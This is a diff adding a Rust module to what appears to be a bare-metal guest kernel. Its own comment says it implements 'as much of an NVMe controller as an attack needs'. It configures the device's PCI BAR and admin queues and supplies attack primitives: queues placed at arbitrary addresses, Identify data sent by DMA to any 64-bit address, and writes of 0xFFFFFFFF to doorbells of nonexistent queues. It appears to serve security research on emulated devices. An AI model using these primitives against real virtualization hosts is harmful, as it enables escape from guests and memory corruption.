@@ -1,0 +1,107 @@
+//! As much of an NVMe controller as an attack needs: its admin queues, one command (Identify, NVM
+//! Express 1.4, 5.15), whose answer goes wherever a 64-bit address says.
+
+use core::sync::atomic::{AtomicU64, Ordering::SeqCst};
+use machine::{cpu, pci, pci::Function, wait};
+
+const CLASS: u32 = 0x01_0802;
+const CLASS_REGISTER: u8 = 0x08;
+/// A place for its registers in the window that guests have for 32-bit BARs.
+const BASE: u32 = 0xD800_0000;
+const MSIX: u8 = 0x11;
+const CC: u64 = 0x14;
+const CSTS: u64 = 0x1C;
+const AQA: u64 = 0x24;
+const ASQ: u64 = 0x28;
+const ACQ: u64 = 0x30;
+const DOORBELLS: u64 = 0x1000;
+const ENABLE: u32 = 0x46_0001;
+const READY: u32 = 1;
+const FATAL: u32 = 2;
+const IDENTIFY: u32 = 6;
+const SLOTS: u32 = 8;
+
+#[repr(C, align(4096))]
+struct Page([AtomicU64; 512]);
+static SUBMISSION: Page = Page([const { AtomicU64::new(0) }; 512]);
+static COMPLETION: Page = Page([const { AtomicU64::new(0) }; 512]);
+
+/// A controller.
+pub struct Nvme {
+    /// Where it is in configuration space.
+    pub function: Function,
+    base: u64,
+    tail: u32,
+}
+
+impl Nvme {
+    /// Finds the first, and lets it reach memory.
+    pub fn find() -> Option<Nvme> {
+        let function =
+            Function::all().find(|f| f.present() && f.read(CLASS_REGISTER) >> 8 == CLASS)?;
+        // The identity map ends at 4 GiB, and 64-bit BARs lie above it.
+        function.write(pci::COMMAND, 0);
+        function.write(pci::BAR0 + 4, 0);
+        function.write(pci::BAR0, BASE);
+        function.write(pci::COMMAND, pci::MEMORY_AND_MASTER);
+        let base = u64::from(BASE);
+        (function.read(pci::BAR0) & !0xF == BASE).then_some(Nvme { function, base, tail: 0 })
+    }
+
+    /// Its MSI-X table.
+    pub fn table(&self) -> Option<(u8, u64)> {
+        let capability = self.function.capability(MSIX)?;
+        let at = self.function.read(capability + 4);
+        Some((capability, self.base + u64::from(at & !7)))
+    }
+
+    /// Starts it, with its queues in this kernel's memory.
+    pub fn start(&mut self) -> bool {
+        let queue = |page: &Page| page.0.as_ptr() as u64;
+        self.start_at(queue(&SUBMISSION), queue(&COMPLETION))
+    }
+
+    /// Starts it, with its queues anywhere.
+    pub fn start_at(&mut self, submission: u64, completion: u64) -> bool {
+        cpu::mmio_write(self.base + CC, 0);
+        wait::until(|| cpu::mmio_read(self.base + CSTS) & READY == 0);
+        COMPLETION.0.iter().for_each(|word| word.store(0, SeqCst));
+        self.tail = 0;
+        cpu::mmio_write(self.base + AQA, (SLOTS - 1) << 16 | (SLOTS - 1));
+        for (register, value) in [(ASQ, submission), (ACQ, completion)] {
+            cpu::mmio_write(self.base + register, value as u32);
+            cpu::mmio_write(self.base + register + 4, (value >> 32) as u32);
+        }
+        cpu::mmio_write(self.base + CC, ENABLE);
+        wait::until(|| cpu::mmio_read(self.base + CSTS) & (READY | FATAL) != 0)
+    }
+
+    /// Stops it.
+    pub fn stop(&mut self) {
+        cpu::mmio_write(self.base + CC, 0);
+        wait::until(|| cpu::mmio_read(self.base + CSTS) & READY == 0);
+    }
+
+    /// Has it write what it is to `address`, anywhere; gives the status, if it ever completes.
+    pub fn identify_to(&mut self, address: u64) -> Option<u32> {
+        let slot = (self.tail % SLOTS) as usize;
+        let command = [u64::from(IDENTIFY), 0, 0, address, 0, 1, 0, 0];
+        for (word, value) in SUBMISSION.0.iter().skip(slot * 8).zip(command) {
+            word.store(value, SeqCst);
+        }
+        let phase = u64::from((self.tail / SLOTS).is_multiple_of(2));
+        self.tail += 1;
+        cpu::mmio_write(self.base + DOORBELLS, self.tail % SLOTS);
+        let entry = &COMPLETION.0[slot * 2 + 1];
+        let came = wait::until(|| entry.load(SeqCst) >> 48 & 1 == phase);
+        cpu::mmio_write(self.base + DOORBELLS + 4, self.tail % SLOTS);
+        came.then(|| (entry.load(SeqCst) >> 49) as u32)
+    }
+
+    /// Rings doorbells of queues that there aren't, with indices that there aren't.
+    pub fn ring_all(&self) {
+        for queue in 0..64 {
+            cpu::mmio_write(self.base + DOORBELLS + queue * 4, 0xFFFF_FFFF);
+        }
+    }
+}
